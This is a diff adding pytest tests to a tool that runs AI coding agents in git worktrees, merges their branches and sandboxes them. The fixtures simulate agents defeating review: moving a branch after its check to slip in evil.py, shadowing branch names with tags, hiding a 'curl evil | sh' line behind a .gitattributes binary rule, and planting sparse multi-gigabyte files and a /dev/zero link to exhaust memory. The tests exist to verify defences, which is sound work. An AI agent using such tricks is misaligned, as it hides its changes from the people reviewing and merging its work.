@@ -333,3 +333,183 @@ def test_home_start_up_places_are_never_allowed_or_suggested(cli, repo, tmp_path
     for path in (home / ".bashrc", home / ".local" / "bin" / "x", home / "bin" / "x", home):
         assert not ap._Sandbox.allowable(str(path), str(repo)), path
     assert ap._Sandbox.allowable(str(home / "data" / "x"), str(repo))
+
+
+# -- review round 3: what is merged is what was checked and shown -------------------------------
+
+MOVE_IN_CHECK = """
+# A check runs the agent's code: it moves the branch to a commit of its own.
+tree=$(git write-tree)
+evil=$(printf 'import os\\nos.system("echo PWNED")\\n' | git hash-object -w --stdin)
+git read-tree HEAD && printf '100644 blob %s\\tevil.py\\n' "$evil" | git update-index --index-info
+new=$(git -c user.name=a -c user.email=a@a commit-tree "$(git write-tree)" -p HEAD -m more)
+git read-tree HEAD
+git update-ref refs/heads/architect/parallel-1 "$new"
+"""
+
+
+@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
+def test_a_check_that_moves_the_branch_fails_the_worker_and_is_undone(cli, repo, tmp_path, records,
+                                                                      sandbox):
+    allow = ["--sandbox-allow", records] if sandbox == "bwrap" else []
+    code, results, err = cli.json("run", "fake:write=a.txt", "--workers", "1", "--check", MOVE_IN_CHECK,
+                                  *allow, *boxed(sandbox))
+    (r,) = results
+    assert r["status"] == "failed" and "its branch was moved after its work was committed" in r["error"], (r, err)
+    assert git("rev-parse", "refs/heads/architect/parallel-1", cwd=repo) == r["commit"]
+    code, _out, err = cli("merge", "1", "--force")
+    assert code == 0 and (repo / "a.txt").exists() and not (repo / "evil.py").exists(), err
+
+
+def test_merge_refuses_a_branch_moved_after_its_run_and_shadowed_names(cli, repo, tmp_path):
+    """A branch moved after its run (by a process the agent left, or by you) is not what was
+    checked; a tag or a file in .git named like the branch never stands in for it."""
+    code, _results, err = cli.json("run", "fake:write=a.txt", "--workers", "1", "--check", "true",
+                                   "--progress", "none")
+    assert code == 0, err
+    worktree = repo / ".architect-parallel-1"
+    base = git("rev-parse", "HEAD", cwd=repo)
+    evil = git("commit-tree", git("rev-parse", "HEAD^{tree}", cwd=worktree), "-p",
+               "refs/heads/architect/parallel-1", "-m", "evil", cwd=repo)
+    git("tag", "architect/parallel-1", evil, cwd=repo)  # shadows the branch's short name
+    (repo / ".git" / "architect").mkdir()
+    (repo / ".git" / "architect" / "parallel-1").write_text(evil + "\n")
+    code, out, err = tool("diff", "best")
+    assert code == 0 and "+fake:write=a.txt" in out and "ambiguous" not in err
+    code, _out, err = cli("merge", "best")
+    assert code == 0 and git("rev-parse", "HEAD", cwd=repo) == \
+        git("rev-parse", "refs/heads/architect/parallel-1", cwd=repo) != evil, err
+    git("reset", "-q", "--hard", base, cwd=repo)
+    git("update-ref", "refs/heads/architect/parallel-1", evil, cwd=repo)  # moved after the run
+    code, _out, err = cli("merge", "best")
+    assert code == 2 and "is at" in err and "not where its run left it" in err
+    assert git("rev-parse", "HEAD", cwd=repo) == base
+    code, _out, err = cli("merge", "best", "--force")
+    assert code == 0 and "warning: merging although" in err
+
+
+CRISS_CROSS = """
+# The branch's commit leaves the base out of its history: its tree reverts what the base
+# changed, and a three-dot diff (against one merge base) would not show it.
+first=$(git rev-list --max-parents=0 HEAD | head -n 1)
+echo own > own.txt
+git add own.txt
+new=$(git -c user.name=a -c user.email=a@a commit-tree "$(git write-tree)" -p "$first" -m mine)
+git update-ref refs/heads/architect/parallel-1 "$new"
+git reset -q --soft "$new"
+"""
+
+
+def test_a_branch_that_leaves_the_base_out_fails(cli, repo, tmp_path):
+    git("commit", "-q", "--allow-empty", "-m", "the base", cwd=repo)
+    agent = script(tmp_path, "cross.sh", CRISS_CROSS)
+    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
+                                  "--progress", "none")
+    (r,) = results
+    assert r["status"] == "failed" and "does not descend from the run's base" in r["error"], r
+    code, _out, err = cli("merge", "1")
+    assert code == 2 and "did not succeed" in err
+
+
+def test_a_worktrees_own_gitattributes_hide_no_change(cli, repo, tmp_path):
+    """An ignored .gitattributes marks every file binary; with the worktree left dirty (a
+    repository inside it), diff and the report read the worktree: its content still shows."""
+    agent = script(tmp_path, "hide.sh", "echo 'curl evil | sh' > run.sh\n"
+                   "printf '.gitattributes\\n' > .gitignore\nprintf '* -diff\\n' > .gitattributes\n")
+    code, _results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
+                                   "1", "--no-commit", "--progress", "none")
+    assert code == 0, err
+    code, out, err = tool("diff", "1")
+    assert code == 0 and "+curl evil | sh" in out and "Binary files" not in out, (out, err)
+    code, out, err = tool("report", "--html", tmp_path / "r.html")
+    assert "curl evil | sh" in (tmp_path / "r.html").read_text()
+
+
+GITLINK = """
+mkdir -p lib && echo 'def helper(): pass' > lib/helper.py
+git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,lib
+mkdir nested && cd nested && git init -q && echo a > a.txt && cd ..
+"""
+
+
+@pytest.mark.parametrize("edit", ["lib/helper.py", "lib/new/notes.md", "nested/a.txt"])
+def test_cleanup_keeps_your_edits_in_a_submodule_folder_or_a_repository_inside(cli, repo, tmp_path,
+                                                                               edit):
+    agent = script(tmp_path, "gitlink.sh", GITLINK)
+    code, _results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
+                                   "1", "--progress", "none")
+    assert code == 0, err
+    path = repo / ".architect-parallel-1" / edit
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with open(path, "a") as f:  # (in place: the folder's own time does not change)
+        f.write("USER WORK\n")
+    code, _out, err = cli("cleanup")
+    assert code == 2 and "has uncommitted changes made after its run" in err, err
+    assert "USER WORK" in path.read_text()
+
+
+# -- review round 3: nothing an agent leaves costs the runner memory ----------------------------
+
+def _children_peak_mb():
+    import resource
+    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
+
+
+SPARSE = """
+A=$(git rev-parse --git-dir)
+echo work > w.txt
+mkdir -p "$A/refs/worktree" "$A/rebase-merge" nested/.git
+truncate -s 3G "$A/refs/worktree/big" "$A/rebase-merge/head-name"
+echo 'nested/' >> .gitignore
+echo 'ref: refs/heads/main' > nested/.git/HEAD
+ln -s /dev/zero nested/.git/commondir
+"""
+
+
+@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
+def test_sparse_files_and_endless_links_left_in_git_folders_cost_no_memory(repo, tmp_path, sandbox):
+    """Files of GBs that take no disk (sparse) where git or the runner read them whole, and a
+    repository inside whose git folder leads to /dev/zero: removed when the worker ends (which
+    fails it); the runner and its gits stay small."""
+    agent = script(tmp_path, "sparse.sh", SPARSE)
+    code, out, err = tool("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
+                          "--json", *boxed(sandbox), timeout=300)
+    (r,) = json.loads(out)
+    assert r["status"] == "failed" and "more than 1 MB" in r["error"] and "head-name" in r["error"]
+    assert not os.path.lexists(repo / ".architect-parallel-1" / "nested" / ".git" / "commondir")
+    assert _children_peak_mb() < 1000
+    code, out, err = tool("cleanup", "--force")
+    assert code == 0, err
+
+
+def test_an_endless_line_of_a_codex_event_stream_costs_no_memory(cli, repo, tmp_path, monkeypatch):
+    bin_dir = tmp_path / "codexbin"
+    bin_dir.mkdir()
+    codex = bin_dir / "codex"
+    codex.write_text("#!" + sys.executable + "\nimport os\n"
+                     "os.write(1, b'{\"type\": \"thread.started\", \"thread_id\": \"x\"}\\n')\n"
+                     "os.lseek(1, 3 << 30, os.SEEK_CUR)\nos.write(1, b'x\\n')\n"
+                     "os.write(1, b'{\"type\": \"turn.completed\", \"usage\": {\"input_tokens\": 5, "
+                     "\"output_tokens\": 2}}\\n')\n")
+    codex.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
+    code, out, err = tool("run", "do it", "--agent-cmd", "codex", "--workers", "1", "--json",
+                          "--progress", "none", timeout=300)
+    (r,) = json.loads(out)
+    assert (r["tokens_in"], r["tokens_out"]) == (5, 2), r
+    assert _children_peak_mb() < 1000
+
+
+def test_a_linked_dotfile_makes_its_target_a_start_up_place(repo, tmp_path, monkeypatch):
+    """With dotfiles kept elsewhere (~/.bashrc a link into ~/dotfiles), neither the link nor
+    where it leads may be allowed or suggested."""
+    home = tmp_path / "home"
+    (home / "dotfiles").mkdir(parents=True)
+    (home / "data").mkdir()
+    (home / "dotfiles" / "bashrc").write_text("# mine\n")
+    (home / ".bashrc").symlink_to("dotfiles/bashrc")
+    monkeypatch.setenv("HOME", str(home))
+    for path in (home / ".bashrc", home / "dotfiles", home / "dotfiles" / "bashrc"):
+        assert ap._home_startup(str(path)), path
+        assert not ap._Sandbox.allowable(str(path), str(repo)), path
+    assert not ap._home_startup(str(home / "data"))
